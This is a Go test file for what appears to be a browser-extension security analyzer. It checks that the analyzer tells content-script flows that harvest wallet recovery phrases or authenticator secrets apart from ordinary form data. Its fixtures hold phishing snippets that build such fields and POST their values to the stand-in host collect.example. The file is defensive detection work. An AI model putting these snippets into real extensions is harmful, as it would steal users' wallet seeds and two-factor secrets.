package analysis

import "testing"

// What a field is for that the code made stands beside it, in an element that the code made as well.
func TestTextsBesideOwnFields(t *testing.T) {
	const send = `button.onclick = () => fetch("https://collect.example/", {method: "POST", body: field.value})`
	for code, want := range map[string]string{
		`const box = document.createElement("div"), text = document.createElement("p"), field = document.createElement("input");
			text.textContent = "Enter your Secret Recovery Phrase"; box.appendChild(text); box.appendChild(field); document.body.appendChild(box); `: "seed_input",
		`const box = document.createElement("form"), row = document.createElement("label"), field = document.createElement("textarea");
			row.append("12 words of your wallet", field); box.append(row); document.body.append(box); `: "seed_input",
		`const add = (to, x) => to.insertBefore(x, null), make = (tag) => document.createElement(tag);
			const box = make("form"), head = make("h1"), row = make("div"), field = make("input");
			add(box, row); add(row, field); add(box, head); head.innerText = "Authenticator secret"; `: "otp_field",
		`const box = document.createElement("div"), text = document.createElement("p"), field = document.createElement("input");
			text.textContent = "Never enter your Secret Recovery Phrase anywhere"; box.append(text, field); document.body.append(box); `: "form_data",
		`const box = document.createElement("div"), text = document.createElement("p"), field = document.createElement("input");
			text.textContent = "Enter your Secret Recovery Phrase"; document.body.append(text); box.append(field); document.body.append(box); `: "form_data",
	} {
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["https://wallet.test/*"], "js": ["c.js"]}]}`,
			"c.js":          `const button = document.createElement("button"); ` + code + send,
		})
		if len(r.Flows) != 1 || r.Flows[0].Source != want || r.Flows[0].Host != "collect.example" {
			t.Errorf("%s: %+v", code, r.Flows)
		}
	}
}
